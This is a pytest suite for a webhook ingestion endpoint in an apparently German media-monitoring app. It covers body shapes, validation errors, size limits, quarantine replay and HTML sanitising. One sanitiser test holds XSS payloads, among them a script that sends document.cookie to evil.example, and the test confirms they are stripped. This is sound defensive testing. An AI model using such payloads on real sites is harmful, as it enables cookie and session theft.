"""POST /hooks/{source}: body shapes, 422 with field paths (all or nothing), 413, sanitising."""

from __future__ import annotations

import json
from collections.abc import Iterator
from typing import Any

import pytest
from fastapi.testclient import TestClient
from sqlalchemy import func, select

from resonanz.api.app import create_app
from resonanz.connectors.webhook.connector import sign
from resonanz.db.database import Database
from resonanz.mentions.models import Mention, QuarantineItem
from resonanz.sources.actions import do_create_source, do_update_source
from resonanz.sources.models import IngestRun, Source
from resonanz.sources.replay import do_replay
from resonanz.sources.schemas import SourceCreate, SourceUpdate

SECRET = "s3cr3t-for-tests"


def rec(ext: str, **fields: Any) -> dict[str, Any]:
    return {"id": ext, "text": f"Meldung {ext}: Rückruf erbeten", "published_at": "2026-03-01T08:00:00", **fields}


@pytest.fixture
def client(db: Database, monkeypatch: pytest.MonkeyPatch) -> Iterator[TestClient]:
    with db.sessions() as session, session.begin():
        do_create_source(session, data=SourceCreate(name="zap", kind="webhook"))
    monkeypatch.setenv("RESONANZ_WEBHOOK_SECRET_ZAP", SECRET)
    yield TestClient(create_app(db.settings, database=db))


def send(client: TestClient, payload: Any = None, *, raw: bytes | None = None) -> Any:
    body = raw if raw is not None else json.dumps(payload).encode()
    return client.post("/hooks/zap", content=body, headers={"X-Resonanz-Signature": sign(body, SECRET)})


def table_counts(db: Database) -> tuple[int, int, int]:
    with db.sessions() as session:
        return tuple(  # type: ignore[return-value]
            int(session.scalar(select(func.count()).select_from(m)) or 0) for m in (Mention, QuarantineItem, IngestRun)
        )


@pytest.mark.parametrize(
    ("payload", "ids"),
    [
        (rec("a"), {"a"}),
        ([rec("a"), rec("b")], {"a", "b"}),
        ({"mentions": [rec("a"), rec("b"), rec("c")]}, {"a", "b", "c"}),
    ],
    ids=["object", "array", "envelope"],
)
def test_body_shapes(client: TestClient, db: Database, payload: Any, ids: set[str]) -> None:
    response = send(client, payload)
    assert response.status_code == 202, response.text
    assert response.json()["received"] == len(ids)
    with db.sessions() as session:
        mentions = list(session.scalars(select(Mention)))
    assert {m.external_id for m in mentions} == ids
    assert all(m.published_at.isoformat() == "2026-03-01T08:00:00+00:00" for m in mentions)  # no zone -> UTC


def test_invalid_record_is_422_with_paths_and_nothing_is_stored(client: TestClient, db: Database) -> None:
    records = [rec("ok1"), rec("ok2"), rec("bad", published_at="morgen"), {"text": "no id, no date"}, [1]]
    response = send(client, {"mentions": records})
    assert response.status_code == 422
    assert response.headers["content-type"].startswith("application/problem+json")
    problem = response.json()
    assert problem["status"] == 422 and "no mention was stored" in problem["detail"]
    paths = [e["path"] for e in problem["errors"]]
    assert paths == ["mentions[2].published_at", "mentions[3].id", "mentions[3].published_at", "mentions[4]"]
    assert "'morgen' is not a date" in problem["errors"][0]["message"]
    assert table_counts(db) == (0, 1, 1)  # no mention; the body kept in quarantine; a failed run
    with db.sessions() as session:
        kept = session.scalars(select(QuarantineItem)).one()
    assert kept.id == problem["quarantine_id"] and kept.stage == "webhook" and "mentions[2].published_at" in kept.reason


@pytest.mark.parametrize(
    ("body", "path", "message"),
    [
        (b'{"id": "x", ', "body", "invalid JSON"),
        (b"\xff\xfe{}", "body", "invalid UTF-8"),
        (b"[]", "body", "no records"),
        (b'{"mentions": {"id": 1}}', "mentions", "must be an array"),
        (b'[{"id": "x", "text": "t", "published_at": 0, "author": {"followers": "many", "handle": "h"}}]',
         "[0].author.followers", "valid integer"),
    ],
)  # fmt: skip
def test_bad_bodies(client: TestClient, db: Database, body: bytes, path: str, message: str) -> None:
    response = send(client, raw=body)
    assert response.status_code == 422
    (error,) = response.json()["errors"]
    assert error["path"] == path and message in error["message"]
    assert table_counts(db) == (0, 1, 1)


def test_html_and_script_injection_is_sanitised(client: TestClient, db: Database) -> None:
    html = (
        '<p>Guter <b>Service</b><script>fetch("https://evil.example/"+document.cookie)</script>'
        '<img src="x" onerror="alert(1)"><a href="javascript:alert(2)">klick</a>'
        '<iframe src="https://evil.example"></iframe></p>'
    )
    assert send(client, rec("x", text=None, html=html)).status_code == 202
    with db.sessions() as session:
        mention = session.scalars(select(Mention)).one()
    assert mention.html is not None
    for bad in ("<script", "onerror", "javascript:", "<iframe", "evil.example"):
        assert bad not in mention.html
    assert "<b>Service</b>" in mention.html
    assert mention.text.startswith("Guter Service") and "fetch" not in mention.text


def test_oversize_body_is_413_and_oversize_record_is_422(client: TestClient, db: Database) -> None:
    db.settings.max_item_bytes = 1000  # the body limit is 100 items' worth: 100 kB
    response = send(client, [rec(f"n{i}", text="x" * 900) for i in range(120)])
    assert response.status_code == 413 and response.json()["status"] == 413
    response = send(client, [rec("small"), rec("huge", text="y" * 2000)])
    assert response.status_code == 422 and response.json()["errors"][0]["path"] == "[1]"
    assert table_counts(db) == (0, 1, 1)
    # after the operator raises the limit, the kept body replays into both mentions
    db.settings.max_item_bytes = 1_000_000
    with db.sessions() as session, session.begin():
        item = session.get(QuarantineItem, response.json()["quarantine_id"])
        assert item is not None
        (outcome,) = do_replay(session, items=[item], settings=db.settings)
        assert outcome.ok and len(outcome.mention_ids) == 2


def test_disabled_source_refuses_posts(client: TestClient, db: Database) -> None:
    with db.sessions() as session, session.begin():
        source = session.scalars(select(Source)).one()
        do_update_source(session, source=source, data=SourceUpdate(enabled=False))
    response = send(client, rec("a"))
    assert response.status_code == 403 and "disabled" in response.json()["detail"]
    assert table_counts(db) == (0, 0, 0)
